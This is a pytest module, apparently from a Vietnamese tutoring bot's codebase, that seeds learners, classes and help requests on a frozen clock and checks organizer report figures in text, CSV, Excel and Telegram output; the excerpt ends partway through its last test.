"""Organizer reports on a database seeded through the real tutor with a controlled clock: learners
finish, abandon and re-try lessons; the figures are checked exactly in text, CSV and Excel."""

from __future__ import annotations

import asyncio
import concurrent.futures
import contextlib
import csv
import io
import re
import subprocess
import sys
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
import pytest

from bot.config import load_settings
from bot.core.engine import Tutor
from bot.core.events import Actor, Start
from bot.store import Database
from bot.store.models import Class, ClassSession, Enrollment, HelpRequest, Pairing, Progress, StepEvent
from bot.store.stats import Stats, Window
from tests.conftest import LESSONS, make_tutor
from tests.support.campaign import press
from tests.support.clock import Clock as FrozenClock
from tests.support.dialog import Chat
from tests.support.proc import ROOT, hocvuso_env

T0 = datetime(2026, 11, 2, 2, 0)  # 09:00 in Hồ Chí Minh City


# Every figure here depends on when things happened: the whole module runs on the frozen clock.
pytestmark = pytest.mark.dates


class Clock:
    """Minutes since T0 on the test's frozen clock."""

    def __init__(self, frozen: FrozenClock):
        self.frozen = frozen
        frozen.set(T0)

    def at(self, minutes: float) -> None:
        self.frozen.set(T0 + timedelta(minutes=minutes))


async def finish(chat: Chat, clock: Clock, start: float, minutes: float, quiz: list[str]) -> None:
    """thu-nghiem from start to finish: `quiz` are the typed answers to its question."""
    clock.at(start)
    await chat.say("/start l-thu-nghiem")
    await chat.say("tiep tuc")
    for answer in quiz:
        await chat.say(answer)
    await chat.say("xong")
    clock.at(start + minutes)
    await chat.say("tiep tuc")


async def seed(tutor: Tutor, clock: Clock) -> None:
    async with tutor.db.transaction() as repo:
        await repo.upsert_unit("hn", "Hà Nội", None, "tinh")
        await repo.upsert_unit("hn-a", "Phường A", "hn", "xa")
        await repo.upsert_unit("hn-b", "Xã B", "hn", "xa")
        await repo.grant("console", "org-a", "organizer", "hn-a", T0)
        await repo.grant("console", "org-b", "organizer", "hn-b", T0)
        await repo.grant("console", "org-hn", "organizer", "hn", T0)
        for name, unit in (("tnv-a", "hn-a"), ("tnv-b", "hn-b")):
            user = await repo.grant("console", name, "volunteer", unit, T0)
            user.display_name = {"tnv-a": "Minh", "tnv-b": "Khánh"}[name]
    org = Chat(tutor, Actor("console", "tnv-a", "Minh"))
    classes = {}
    for volunteer, name, when in (
        ("tnv-a", "Lớp A", "3/11 8:00"),
        ("tnv-b", "Lớp B", "4/11 8:00"),
        ("tnv-a", "Lớp C", "12/11 8:00"),  # next week, when the seeding ends: not held yet
        ("tnv-a", "Lớp D", "bỏ qua"),  # no time set: never counted as held
    ):
        chat = org.person(volunteer, "")
        for line in ("/taolop", name, "bỏ qua", when):
            await chat.say(line)
        async with tutor.db.reader() as repo:
            from sqlalchemy import select

            from bot.store.models import Class

            classes[name] = (await repo.session.execute(select(Class).where(Class.name == name))).scalar_one()
    # Not learners: a volunteer who types another volunteer's class code, and someone who only
    # wrote to the bot.
    joined = await org.person("tnv-b", "").say(f"/ma {classes['Lớp A'].short_code}")
    assert "Bác đã vào lớp «Lớp A»" in joined[-1].text
    await org.person("x1", "Người lạ").say("xin chào")
    people = {}
    for ext, name, klass in (
        ("a1", "Nguyễn Thị An", "Lớp A"),
        ("a2", "Trần Văn Bình", "Lớp A"),
        ("a3", "Lê Thị Cúc", "Lớp A"),
        ("b1", "Phạm Văn Dũng", "Lớp B"),
        ("b2", "Hoàng Thị Em", "Lớp B"),
    ):
        chat = org.person(ext, name)
        await chat.send(Start(f"c-{classes[klass].code}"))
        people[ext] = chat
    # a1: right first time, 10 minutes; then re-tries and stops at the question.
    await finish(people["a1"], clock, 0, 10, ["khong"])
    clock.at(24 * 60)
    await people["a1"].say("/start l-thu-nghiem")
    await people["a1"].say("1")
    # a2: wrong, then right; 30 minutes; then starts bai-hai and stops on its first step.
    await finish(people["a2"], clock, 5, 30, ["co", "khong"])
    await people["a2"].say("/start l-bai-hai")
    # a3: gives up at the question.
    clock.at(60)
    await people["a3"].say("/start l-thu-nghiem")
    await people["a3"].say("1")
    # b1: wrong twice (shown the answer), 20 minutes.
    await finish(people["b1"], clock, 10, 20, ["co", "co"])
    # b2 never starts. a3 asks for help, nobody answers yet.
    await people["a3"].say("/giupdo")
    # Lớp A and Lớp B are held: their volunteers start a session at the time set (3 and 4 November,
    # 08:00 local); Lớp C (next week) and Lớp D (no time) hold none.
    for volunteer, name, minutes in (("tnv-a", "Lớp A", 23 * 60), ("tnv-b", "Lớp B", 47 * 60)):
        clock.at(minutes)
        chat = org.person(volunteer, "")
        await chat.say("/buoihoc")
        if any(b.label == f"🏫 {name}" for b in chat.last_buttons):  # Minh has several classes
            await press(chat, f"🏫 {name}")
        await press(chat, "▶️ Bắt đầu buổi học ngay")
        await press(chat, "⏹ Kết thúc buổi học")
    clock.at(3 * 24 * 60)


@pytest.fixture
async def seeded(db_url: str, clock: FrozenClock):
    clock = Clock(clock)
    tutor = await make_tutor(db_url, campaign=load_settings(CONFIG, env={}).campaign.model_dump())
    await seed(tutor, clock)
    yield tutor, clock
    await tutor.db.close()


CONFIG = ROOT / "tests" / "data" / "report-config.yaml"
# A report subprocess runs on the real clock: every call names its period. Seeding happens from 2
# to 5 November (local); the 5th is the period's "now" (classes held, active in the last 7 days).
PERIOD = ("--since", "2026-11-01", "--until", "2026-11-05")


def run_report(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    """`hocvuso report …` run in this process, so the figures' code is in reach of coverage and
    mutation testing (scripts/mutation); the workbook test runs the real command in a subprocess.
    Its own event loop runs in a thread when the caller is inside one."""
    try:
        asyncio.get_running_loop()
    except RuntimeError:
        return _report_here(db_url, *args)
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        return pool.submit(_report_here, db_url, *args).result()


def _report_here(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    from bot.cli import build_parser
    from bot.cli.report import run

    parsed = build_parser().parse_args(["report", "--config", str(CONFIG), *args])
    settings = load_settings(
        CONFIG, env={"HOCVUSO_DATABASE_URL": db_url, "HOCVUSO_LESSONS_DIR": str(LESSONS)}
    )
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = run(parsed, settings)
    return subprocess.CompletedProcess(["hocvuso", "report", *args], code, out.getvalue(), err.getvalue())


def run_report_process(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", "report", "--config", str(CONFIG), *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=hocvuso_env(db_url, LESSONS),
        cwd=ROOT,
        timeout=120,
    )


# --- the definitions, on rows written directly (every edge in one small table) -------------------

DAY = Window(None, T0, T0 + timedelta(days=1))


async def rows_for_definitions(db: Database) -> dict[str, int]:
    """Two lessons, three learners and a volunteer who also learns, on 2 November (local)."""
    async with db.transaction() as repo:
        await repo.upsert_unit("hn-a", "Phường A", None, "xa")
        people = {}
        for name, role in (
            ("an", "learner"),
            ("binh", "learner"),
            ("cuc", "learner"),
            ("giang", "learner"),
            ("tnv", "volunteer"),
        ):
            people[name] = (await repo.grant("console", name, role, "hn-a", T0)).id
        session = repo.session
        for name, lesson, furthest, minutes in (
            ("an", "bai-a", 2, 10),  # completed in 10 minutes
            ("binh", "bai-a", 0, None),  # stopped at the first step
            ("cuc", "bai-b", 0, 20),  # another lesson, in 20 minutes
            ("giang", "bai-a", 2, 30),  # completed in 30 minutes
            ("tnv", "bai-a", 2, 5),  # a volunteer: never a learner
        ):
            session.add(
                Progress(
                    user_id=people[name],
                    lesson_id=lesson,
                    step_id="chao",
                    started_at=T0,
                    updated_at=T0,
                    first_started_at=T0,
                    first_completed_at=T0 + timedelta(minutes=minutes) if minutes else None,
                    furthest_step=furthest,
                )
            )
        for name, lesson, step, kind, correct, attempt in (
            ("an", "bai-a", "hoi-1", "answer", True, 1),
            ("binh", "bai-a", "hoi-1", "answer", False, 1),
            ("binh", "bai-a", "hoi-1", "answer", True, 2),  # a second try: not a first try
            ("an", "bai-a", "hoi-2", "answer", False, 1),
            ("cuc", "bai-b", "hoi-1", "answer", True, 1),
            ("an", "bai-a", "hoi-1", "recheck", False, 1),  # a re-check days later: not a first try
            ("an", "bai-a", "chao", "answer", None, 1),  # «tiếp tục» on a plain step: not a quiz answer
            ("tnv", "bai-a", "hoi-1", "answer", False, 1),  # a volunteer's answer
        ):
            session.add(
                StepEvent(
                    user_id=people[name],
                    lesson_id=lesson,
                    step_id=step,
                    kind=kind,
                    correct=correct,
                    attempt=attempt,
                    at=T0 + timedelta(minutes=1),
                )
            )
    return people


async def test_funnel_and_first_tries_follow_their_definitions(db_url: str) -> None:
    db = Database(db_url)
    await db.migrate()
    try:
        await rows_for_definitions(db)
        async with db.reader() as repo:
            stats = Stats(repo.session)
            funnel = await stats.funnel(DAY)
            lessons = await stats.lessons(DAY)
            other_day = await stats.lessons(Window(None, T0 + timedelta(days=1), T0 + timedelta(days=2)))
    finally:
        await db.close()
    zero = {"reached": 0, "first_try": 0, "first_try_correct": 0}
    # Reached a step = learners who got to it or further, per lesson; first tries per quiz step.
    assert funnel == {
        ("bai-a", 0): {**zero, "reached": 3},
        ("bai-a", 1): {**zero, "reached": 2},
        ("bai-a", 2): {**zero, "reached": 2},
        ("bai-b", 0): {**zero, "reached": 1},
        ("bai-a", "hoi-1"): {**zero, "first_try": 2, "first_try_correct": 1},
        ("bai-a", "hoi-2"): {**zero, "first_try": 1, "first_try_correct": 0},
        ("bai-b", "hoi-1"): {**zero, "first_try": 1, "first_try_correct": 1},
    }
    # Minutes to complete, per lesson: an's 10 and giang's 30 (not the volunteer's 5), cuc's 20.
    assert lessons["bai-a"].pop("median_minutes") == pytest.approx(20.0, abs=0.01)
    assert lessons["bai-b"].pop("median_minutes") == pytest.approx(20.0, abs=0.01)
    assert lessons == {
        "bai-a": {"started": 3, "completed": 2, "first_try_answers": 3, "first_try_correct": 1},
        "bai-b": {"started": 1, "completed": 1, "first_try_answers": 1, "first_try_correct": 1},
    }
    assert other_day == {}


async def test_classes_and_help_follow_their_definitions(db_url: str) -> None:
    db = Database(db_url)
    await db.migrate()
    try:
        people = await rows_for_definitions(db)
        async with db.transaction() as repo:
            await repo.upsert_unit("hn-b", "Xã B", None, "xa")
            other = await repo.grant("console", "dung", "learner", "hn-b", T0)
            session = repo.session
            # Created first, in the unit listed second.
            village = Class(
                code="c-b",
                short_code="B1",
                name="Lớp B",
                unit_id="hn-b",
                volunteer_id=people["tnv"],
                created_at=T0,
            )
            ward = Class(
                code="c-a",
                short_code="A1",
                name="Lớp A",
                unit_id="hn-a",
                volunteer_id=people["tnv"],
                created_at=T0,
            )
            session.add_all([village, ward])
            await session.flush()
            for klass in (village, ward):
                session.add(
                    ClassSession(
                        class_id=klass.id,
                        code=f"s-{klass.code}",
                        short_code=f"S{klass.short_code}",
                        held_at=T0 + timedelta(hours=1),
                        created_at=T0,
                    )
                )
            for klass, person, joined in (
                (ward, people["an"], T0),
                (ward, people["binh"], DAY.until),  # joined as the period ended: after it
                (ward, people["tnv"], T0),  # a volunteer who typed the code: not a learner
                (village, people["cuc"], T0),
                (village, other.id, T0),
            ):
                session.add(Enrollment(class_id=klass.id, user_id=person, joined_at=joined))
            await repo.upsert_unit("hn-0", "Phường 0", None, "xa")
            khanh = await repo.grant("console", "khanh", "volunteer", "hn-0", T0)  # listed first: unit hn-0
            khanh.display_name = "Khánh"
            lan_id = (await repo.grant("console", "lan", "volunteer", "hn-b", T0)).id  # nothing done yet
            (await repo.user(people["tnv"])).display_name = "Minh"
            session.add(Class(code="c-old", short_code="O1", name="Lớp cũ", unit_id="hn-a", volunteer_id=people["tnv"], created_at=T0 - timedelta(days=1)))  # fmt: skip
            for unit, learner, minutes, by in (
                ("hn-a", "an", 30, people["tnv"]),
                ("hn-a", "binh", 50, people["tnv"]),
                ("hn-b", "cuc", 10, khanh.id),
            ):
                session.add(
                    HelpRequest(
                        learner_id=people[learner],
                        volunteer_id=by,
                        unit_id=unit,
                        status="answered",
                        created_at=T0,
                        answered_at=T0 + timedelta(minutes=minutes),
                    )
                )
            for learner, unit in ((people["an"], "hn-a"), (other.id, "hn-b")):
                session.add(HelpRequest(learner_id=learner, unit_id=unit, status="open", created_at=T0))
            # A learner since the day before: a learner in the period, not a new one.
            em = await repo.grant("console", "em", "learner", "hn-b", T0)
            session.add(
                Progress(
                    user_id=em.id,
                    lesson_id="bai-a",
                    step_id="chao",
                    started_at=T0,
                    updated_at=T0,
                    first_started_at=T0 - timedelta(days=1),
                )
            )
            # Starts (and completes) after the period: not a learner in it.
            phuong = await repo.grant("console", "phuong", "learner", "hn-b", T0)
            session.add(
                Progress(
                    user_id=phuong.id,
                    lesson_id="bai-a",
                    step_id="chao",
                    started_at=T0,
                    updated_at=T0,
                    first_started_at=DAY.until,  # the period's end is outside it
                    first_completed_at=DAY.until + timedelta(hours=2),
                )
            )
            for learner, by in (("an", "tnv"), ("cuc", "tnv")):
                session.add(Pairing(learner_id=people[learner], volunteer_id=people[by], since=T0))
            for learner in (em.id, phuong.id):
                session.add(Pairing(learner_id=learner, volunteer_id=khanh.id, since=T0))
            # dung (Xã B) answers: at the period's first instant (in it), at its end (not), and
            # wrong at the first try in a third lesson.
            for lesson, correct, at in (
                ("bai-b", True, DAY.since),
                ("bai-b", False, DAY.until),
                ("bai-c", False, T0),
            ):
                session.add(
                    StepEvent(
                        user_id=other.id,
                        lesson_id=lesson,
                        step_id="hoi-1",
                        kind="answer",
                        correct=correct,
                        attempt=1,
                        at=at,
                    )
                )
            week_before = DAY.until - timedelta(days=7)
            for user_id, last in (
                (people["binh"], week_before - timedelta(seconds=1)),
                (people["cuc"], week_before),
            ):
                (await repo.user(user_id)).last_active_at = last
        async with db.reader() as repo:
            stats = Stats(repo.session)
            classes = await stats.classes(DAY, DAY.until)
            ward_only = await stats.help_summary(Window(["hn-a"], DAY.since, DAY.until))
            everywhere = await stats.help_summary(DAY)
            units = await stats.per_unit(DAY, DAY.until)
            village_classes = await stats.classes(Window(["hn-b"], DAY.since, DAY.until), DAY.until)
            volunteers = await stats.volunteers(DAY, DAY.until)
            ward_volunteers = await stats.volunteers(Window(["hn-a"], DAY.since, DAY.until), DAY.until)
            funnel = await stats.funnel(DAY)
            ward_funnel = await stats.funnel(Window(["hn-a"], DAY.since, DAY.until))
            lessons = await stats.lessons(DAY)
            ward_units = await stats.per_unit(Window(["hn-a"], DAY.since, DAY.until), DAY.until)
    finally:
        await db.close()
    # Listed by unit, then by creation; learners joined by the period's end; their completions.
    # Lớp cũ, created the day before and not held in the period, is not listed.
    assert [(c["id"], c["name"], c["unit_id"], c["learners"], c["completions"]) for c in classes] == [
        (ward.id, "Lớp A", "hn-a", 1, 1),
        (village.id, "Lớp B", "hn-b", 2, 1),
    ]
    assert [c["name"] for c in village_classes] == ["Lớp B"]
    # Volunteers by unit: classes held in the period (anywhere), the learners they tutor who were
    # learners by its end (not phuong) and those learners' completions in it, requests answered.
    figures = ("id", "name", "unit_id", "classes", "learners", "completions", "help_answered")
    assert [tuple(v[k] for k in figures) for v in volunteers] == [
        (khanh.id, "Khánh", "hn-0", 0, 1, 0, 1),
        (people["tnv"], "Minh", "hn-a", 2, 2, 2, 2),
        (lan_id, None, "hn-b", 0, 0, 0, 0),
    ]
    assert ward_volunteers == volunteers[1:2]
    # Events: [since, until); in a unit's scope only its learners' answers.
    assert funnel[("bai-b", "hoi-1")] == {"reached": 0, "first_try": 2, "first_try_correct": 2}
    assert ward_funnel[("bai-b", "hoi-1")] == {"reached": 0, "first_try": 1, "first_try_correct": 1}
    assert lessons["bai-c"] == {"started": 0, "completed": 0, "first_try_answers": 1, "first_try_correct": 0}
    # Median minutes to the first answer, of the requests answered, in the scope.
    assert ward_only["open"] == 1
    assert ward_only["median_answer_minutes"] == pytest.approx(40.0, abs=0.01)
    assert everywhere["open"] == 2
    assert everywhere["median_answer_minutes"] == pytest.approx(30.0, abs=0.01)
    # Per unit: new learners in the period (not em, a learner since the day before; not the
    # volunteer); active in the 7 days up to the period's end (binh one second too early); lessons
    # first started and completed in it; classes held; volunteers; open help requests.
    assert units == {
        "hn-a": {
            "learners": 4,
            "active_7d": 3,
            "started": 4,
            "completed": 3,
            "classes": 1,
            "volunteers": 1,
            "help_open": 1,
        },
        "hn-b": {"learners": 1, "active_7d": 2, "classes": 1, "volunteers": 1, "help_open": 1},
        "hn-0": {"volunteers": 1},
    }
    assert ward_units == {"hn-a": units["hn-a"]}


# --- the seeded campaign, through the report command ---------------------------------------------


async def test_by_lesson_csv_gives_the_seeded_counts(seeded, db_url: str) -> None:
    proc = await asyncio.to_thread(run_report, db_url, "--by", "lesson", "--format", "csv", *PERIOD)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert list(rows[0]) == [
        "lesson_id",
        "title",
        "track",
        "started",
        "completed",
        "completion_rate",
        "median_minutes",
        "first_try_correct_rate",
    ]
    assert rows == [
        {
            "lesson_id": "thu-nghiem",
            "title": "Bài thử nghiệm",
            "track": "Cơ bản",
            "started": "4",
            "completed": "3",
            "completion_rate": "0.75",
            "median_minutes": "20.0",
            "first_try_correct_rate": "0.3333",
        },
        {
            "lesson_id": "bai-hai",
            "title": "Bài thứ hai",
            "track": "Nâng cao",
            "started": "1",
            "completed": "0",
            "completion_rate": "0.0",
            "median_minutes": "",
            "first_try_correct_rate": "",
        },
    ]


async def test_scope_of_a_unit_and_dates(seeded, db_url: str) -> None:
    proc = await asyncio.to_thread(
        run_report, db_url, "--by", "lesson", "--format", "csv", "--unit", "hn-b", *PERIOD
    )
    rows = {r["lesson_id"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
    assert (rows["thu-nghiem"]["started"], rows["thu-nghiem"]["completed"]) == ("1", "1")
    # From 3 November (local): a1's re-try that day is not a new start; everything else was on the 2nd.
    proc = await asyncio.to_thread(
        run_report,
        db_url,
        "--by",
        "lesson",
        "--format",
        "csv",
        "--since",
        "2026-11-03",
        "--until",
        "2026-11-05",
    )
    rows = {r["lesson_id"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
    assert (rows["thu-nghiem"]["started"], rows["thu-nghiem"]["completed"]) == ("0", "0")
    # Everyone became a learner on the 2nd: no new learners from the 3rd, though all five were
    # learners then and active in the 7 days up to the 5th; classes A and B were held on the 3rd and 4th.
    proc = await asyncio.to_thread(
        run_report,
        db_url,
        "--by",
        "unit",
        "--format",
        "csv",
        "--since",
        "2026-11-03",
        "--until",
        "2026-11-05",
    )
    hn = next(r for r in csv.DictReader(io.StringIO(proc.stdout)) if r["unit_id"] == "hn")
    assert (hn["learners"], hn["active_7d"], hn["classes"]) == ("0", "5", "2")
    proc = await asyncio.to_thread(
        run_report,
        db_url,
        "--by",
        "lesson",
        "--format",
        "csv",
        "--since",
        "2026-11-01",
        "--until",
        "2026-11-02",
    )
    rows = {r["lesson_id"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
    assert (rows["thu-nghiem"]["started"], rows["thu-nghiem"]["completed"]) == ("4", "3")


async def test_by_unit_and_step_text(seeded, db_url: str) -> None:
    # The period ends on 5 November: "active in 7 days" counts the 7 days up to then, whatever today is.
    proc = await asyncio.to_thread(run_report, db_url, "--by", "unit", *PERIOD)
    lines = proc.stdout.splitlines()
    assert lines[0] == "== Theo đơn vị =="
    rows = {line.split()[0]: line.split() for line in lines[3:]}
    # unit, name…, parent, learners, active, started, completed, rate, classes, volunteers, help
    assert rows["hn"][-8:] == ["5", "5", "5", "3", "60,0%", "2", "2", "1"]
    assert rows["hn-a"][-8:] == ["3", "3", "4", "2", "50,0%", "1", "1", "1"]
    assert rows["hn-b"][-8:] == ["2", "2", "1", "1", "100,0%", "1", "1", "0"]
    # A period that ended long after everyone stopped, asked about after it ended (the report runs
    # on the frozen clock, not on this machine's date): nobody was active in its last 7 days.
    _tutor, clock = seeded
    clock.at(30 * 24 * 60)  # 2 December
    proc = await asyncio.to_thread(
        run_report, db_url, "--by", "unit", "--since", "2026-11-01", "--until", "2026-11-30"
    )
    rows = {line.split()[0]: line.split() for line in proc.stdout.splitlines()[3:]}
    assert rows["hn"][-8:-6] == ["5", "0"]
    proc = await asyncio.to_thread(run_report, db_url, "--by", "step", "--format", "csv", *PERIOD)
    funnel = [
        (r["lesson_id"], r["step_id"], r["reached"], r["reached_rate"], r["first_try_correct_rate"])
        for r in csv.DictReader(io.StringIO(proc.stdout))
    ]
    assert funnel == [
        ("thu-nghiem", "chao", "4", "1.0", ""),
        ("thu-nghiem", "cau-hoi", "4", "1.0", "0.3333"),
        ("thu-nghiem", "thuc-hanh", "3", "0.75", ""),
        ("thu-nghiem", "ket", "3", "0.75", ""),
        ("bai-hai", "mot", "1", "1.0", ""),
        ("bai-hai", "hai", "0", "0.0", ""),
    ]


async def test_the_workbook_has_every_sheet_with_the_seeded_figures(
    seeded, db_url: str, tmp_path: Path
) -> None:
    # In this process, like the other reports here: a subprocess's figures are out of reach of
    # mutation testing (the real command runs as a process in test_bad_report_arguments…).
    out = tmp_path / "r.xlsx"
    proc = await asyncio.to_thread(
        run_report, db_url, "--format", "xlsx", "--out", str(out), "--mask-names", *PERIOD
    )
    assert proc.returncode == 0, proc.stderr
    assert "[12/12] partner" in proc.stderr  # progress on the terminal
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [
        "Tổng hợp",
        "Báo cáo chiến dịch",
        "Theo đơn vị",
        "Theo lớp",
        "Theo bài học",
        "Theo tình nguyện viên",
        "Bước bỏ dở",
        "Học viên",
        "Đội hình",
        "Buổi học",
        "Hỗ trợ theo nội dung",
        "Theo tổ chức phối hợp",
    ]
    summary = {row[0]: row for row in book["Tổng hợp"].iter_rows(min_row=2, values_only=True)}
    # Classes held: A and B. C (scheduled for the 12th) and D (no time) have not been held.
    assert summary["classes"][2:] == (4, 2, 0.5)
    assert summary["learners"][2:] == (10, 5, 0.5)
    assert summary["completions"][2:] == (6, 3, 0.5)
    assert summary["volunteers"][2:] == (4, 2, 0.5)
    assert summary["help_open"][3] == 1
    # One convention per format: counts are integers shown as integers, rates fractions shown as %.
    assert summary["completion_rate"][3] == 0.6
    cells = {row[0].value: row for row in book["Tổng hợp"].iter_rows(min_row=2)}
    assert cells["classes"][3].number_format == "General"  # "2", not "2.0"
    assert cells["completion_rate"][3].number_format == "0.0%"
    assert cells["classes"][4].number_format == "0.0%"
    lessons = list(book["Theo bài học"].iter_rows(min_row=1, values_only=True))
    assert lessons[0] == (
        "Mã bài",
        "Bài học",
        "Chủ đề",
        "Bắt đầu",
        "Học xong",
        "Tỷ lệ học xong",
        "Số phút (trung vị)",
        "Đúng ngay lần đầu",
    )
    assert lessons[1] == ("thu-nghiem", "Bài thử nghiệm", "Cơ bản", 4, 3, 0.75, 20.0, 0.3333)
    assert book["Theo bài học"]["F2"].number_format == "0.0%"
    assert book["Theo bài học"].column_dimensions["B"].width == 42
    classes = list(book["Theo lớp"].iter_rows(min_row=2, values_only=True))
    # Dates in Asia/Ho_Chi_Minh, masked names; "held at" only for a class whose time has come (C is
    # next week, D has no time: neither shows its creation time as held); the volunteer who typed
    # class A's code is not one of its learners.
    assert [(c[1], c[4], c[5], c[6], c[7], c[8]) for c in classes] == [
        ("Lớp A", datetime(2026, 11, 3, 8, 0), "M***", 3, 2, datetime(2026, 11, 3, 8, 0)),
        ("Lớp C", None, "M***", 0, 0, datetime(2026, 11, 12, 8, 0)),
        ("Lớp D", None, "M***", 0, 0, None),
        ("Lớp B", datetime(2026, 11, 4, 8, 0), "K***", 2, 1, datetime(2026, 11, 4, 8, 0)),
    ]
    # Unit names are plain names; the tree is shown by the cell's indentation.
    units = {row[0].value: row[1] for row in book["Theo đơn vị"].iter_rows(min_row=2)}
    assert (units["hn"].value, units["hn-a"].value, units["hn-b"].value) == ("Hà Nội", "Phường A", "Xã B")
    assert (units["hn"].alignment.indent, units["hn-a"].alignment.indent) == (0, 1)
    learners = {row[0]: row for row in book["Học viên"].iter_rows(min_row=2, values_only=True)}
    names = sorted(row[1] for row in learners.values())
    # Only learners: not the volunteer who typed a class code, nor someone who only said hello.
    assert names == ["H*** T** E*", "L* T** C**", "N*** T** A*", "P*** V** D***", "T*** V** B***"]
    header = next(book["Học viên"].iter_rows(max_row=1, values_only=True))
    assert header[-2:] == ("Lớp", "Tình nguyện viên")
    assert sorted(row[-2:] for row in learners.values()) == [("Lớp A", "M***")] * 3 + [("Lớp B", "K***")] * 2
    volunteers = list(book["Theo tình nguyện viên"].iter_rows(min_row=2, values_only=True))
    # Minh held one class (C and D are not held yet); Khánh, who typed class A's code, is not
    # counted as Minh's learner.
    assert [(v[1], v[3], v[4], v[5]) for v in volunteers] == [("M***", 1, 3, 2), ("K***", 1, 2, 1)]


async def test_thongke_shows_only_the_organizers_scope(seeded) -> None:
    tutor, _clock = seeded
    texts = {}
    for organizer in ("org-a", "org-b", "org-hn"):
        replies = await Chat(tutor, Actor("console", organizer, organizer)).say("/thongke")
        texts[organizer] = replies[0].text
    # A unit is measured against its own targets only: Phường A has none (not the campaign's).
    assert texts["org-a"].splitlines()[:4] == [
        "📊 Bình dân học vụ số — Phường A",
        "Người học: 3 · 7 ngày: 3",
        "Bài đã bắt đầu: 4 · học xong: 2 · tỉ lệ 50,0%",
        "TNV: 1 · yêu cầu giúp đang chờ: 1",
    ]
    assert "Bài đã bắt đầu: 1 · học xong: 1 · tỉ lệ 100,0%" in texts["org-b"]
    # Hà Nội is measured against its own targets; its communes have none, and are not measured
    # against the whole campaign's (4 classes, 10 learners).
    assert "Người học: 5/8 (62,5%) · 7 ngày: 5" in texts["org-hn"].splitlines()
    assert "🎯 Chiến dịch (kết quả/chỉ tiêu):" in texts["org-hn"].splitlines()
    assert texts["org-a"].splitlines()[-1] == "Đơn vị này chưa có chỉ tiêu riêng."
    assert "/4" not in texts["org-a"] and "/10" not in texts["org-b"]
    assert "Lớp đã tổ chức: 1 · 1 buổi" in texts["org-a"]  # Lớp A; C is next week, D has no session
    assert all(len(t) <= 500 for t in texts.values())
    learner = await Chat(tutor, Actor("console", "a1", "x")).say("/thongke")
    assert learner[0].text.startswith("Cháu chưa biết lệnh này")


async def test_baocao_delivers_the_workbook_through_telegram(db_url: str, clock: FrozenClock) -> None:
    from tests.support.telegram_standin import TelegramStandIn
    from tests.test_telegram import start_bot

    clock = Clock(clock)
    tutor = await make_tutor(db_url)
    await seed(tutor, clock)
    async with tutor.db.transaction() as repo:
        await repo.grant("telegram", "4242", "organizer", "hn-a", T0)
    api = await TelegramStandIn().start()
    channel = await start_bot(tutor, api)
    pump = asyncio.create_task(channel.pump.run())  # the workbook is built off the update, then queued
    try:
        await api.push_text(4242, "/baocao", "Hà")
        await api.wait_text(4242, "đang làm báo cáo Excel")
        sent = await api.wait_for(lambda s: next((m for m in s.sent if m["_method"] == "sendDocument"), None))
        assert sent["document"]["file_name"].startswith("bao-cao-hn-a-")
        book = openpyxl.load_workbook(io.BytesIO(api.files[sent["document"]["file_id"]]))
        units = [row[0] for row in book["Theo đơn vị"].iter_rows(min_row=2, values_only=True)]
        assert units == ["hn-a"]  # commune A's organizer: nothing of commune B
        lessons = {row[0]: row for row in book["Theo bài học"].iter_rows(min_row=2, values_only=True)}
        assert lessons["thu-nghiem"][3:5] == (3, 2)
    finally:
        pump.cancel()
        await channel.stop()
        await tutor.db.close()
        await api.stop()


async def test_summary_has_one_convention_per_format(seeded, db_url: str) -> None:
    # CSV: raw values, rates as fractions like every other table, counts as integers.
    proc = await asyncio.to_thread(run_report, db_url, "--format", "csv", *PERIOD)
    assert proc.returncode == 0, proc.stderr
    rows = {r["metric"]: r for r in csv.DictReader(io.StringIO(proc.stdout))}
    assert (rows["classes"]["actual"], rows["classes"]["percent"]) == ("2", "0.5")
    assert rows["completion_rate"]["actual"] == "0.6"  # 3 of 5 started lessons, not 60.0
    assert rows["learners"]["actual"] == "5"
    # Text: the same rate as a formatted percentage.
    proc = await asyncio.to_thread(run_report, db_url, *PERIOD)
    line = next(line for line in proc.stdout.splitlines() if line.startswith("completion_rate"))
    assert line.split()[-2:] == ["60,0%", "—"]  # actual, percent of target (none)


async def complete_twice(tutor: Tutor, clock: Clock) -> None:
    """One learner completes thu-nghiem on 2 November in 10 minutes, and again on the 4th in 30."""
    async with tutor.db.transaction() as repo:
        await repo.upsert_unit("hn", "Hà Nội", None, "tinh")
        await repo.upsert_unit("hn-a", "Phường A", "hn", "xa")
        volunteer = await repo.grant("console", "tnv-a", "volunteer", "hn-a", T0)
        volunteer.display_name = "Minh"
    minh = Chat(tutor, Actor("console", "tnv-a", "Minh"))
    # Created on the 2nd, held on the 4th: listed in a report of either day.
    for line in ("/taolop", "Lớp A", "bỏ qua", "4/11 8:00"):
        replies = await minh.say(line)
    code = next(word for word in replies[0].text.split() if len(word) == 6 and word.isupper())
    learner = minh.person("c1", "Đỗ Thị Chín")
    await learner.say(f"/ma {code}")
    await finish(learner, clock, 0, 10, ["khong"])
    await finish(learner, clock, 2 * 24 * 60, 30, ["khong"])
    clock.at(47 * 60)  # 08:00 on the 4th: Minh holds the class's session
    await minh.say("/buoihoc")
    await press(minh, "▶️ Bắt đầu buổi học ngay")


async def test_a_second_completion_does_not_count_again(db_url: str, clock: FrozenClock) -> None:
    """Counting the latest completion instead of the first would move the lesson to the 4th, make
    it 30 minutes, and count it again: every figure must keep the first (2 November, 10 minutes)."""
    clock = Clock(clock)
    tutor = await make_tutor(db_url)
    try:
        await complete_twice(tutor, clock)
    finally:
        await tutor.db.close()

    def figures(since: str, until: str) -> dict[str, list[dict[str, str]]]:
        found = {}
        for by in ("lesson", "unit", "class", "volunteer", "learner"):
            proc = run_report(db_url, "--by", by, "--format", "csv", "--since", since, "--until", until)
            assert proc.returncode == 0, proc.stderr
